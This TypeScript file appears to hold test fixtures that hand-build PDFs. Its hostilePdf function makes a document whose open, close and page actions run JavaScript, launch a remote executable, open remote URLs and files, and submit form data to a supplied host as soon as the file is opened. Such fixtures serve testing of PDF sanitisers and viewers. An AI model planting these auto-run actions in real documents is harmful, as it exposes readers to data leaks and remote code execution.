/** A small PDF of so many pages, each with its words, in a font that is not in it; `more` goes into the catalog. */
export function pdfOf(pages: string[], more = '', annotation = ''): Buffer {
  const kids = pages.map((_, index) => `${4 + 2 * index} 0 R`).join(' ');
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${more} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  for (const words of pages) {
    const content = `BT /F1 24 Tf 72 720 Td (${words}) Tj ET 0.2 0.3 0.8 rg 72 500 300 120 re f`;
    objects.push(
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> ` +
        `/Contents ${objects.length + 2} 0 R ${annotation} >>`,
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    );
  }
  return assembled(objects);
}

/** The file that holds these objects, the first of which is its catalog (ISO 32000 §7.5). */
export function assembled(objects: string[]): Buffer {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, index) => {
    const place = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, '0')} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`;
  const end = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`;
  return Buffer.from(text + table + end, 'latin1');
}

/** A PDF that asks a reader to run, to call, to open and to send as soon as it is opened. */
export function hostilePdf(host: string): Buffer {
  const js = `<< /S /JavaScript /JS (app.launchURL\\('${host}/js'\\); this.submitForm\\('${host}/form'\\);) >>`;
  const actions = [
    js,
    `<< /S /URI /URI (${host}/uri) >>`,
    `<< /S /Launch /F (${host}/launch.exe) >>`,
    `<< /S /GoToR /F << /FS /URL /F (${host}/remote.pdf) >> /D [0 /Fit] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${host}/submit) >> >>`,
  ];
  const names = `/Names << /JavaScript << /Names [(a) ${js}] >> >>`;
  const links = actions.map(
    (action) =>
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A ${action} /AA << /PO ${action} /E ${action} >> >>`,
  );
  const more = `/OpenAction ${js} /AA << /WC ${js} /DS ${actions[1] ?? ''} >> ${names}`;
  return pdfOf(['Hostile'], more, `/AA << /O ${js} /C ${actions[1] ?? ''} >> /Annots [${links.join(' ')}]`);
}
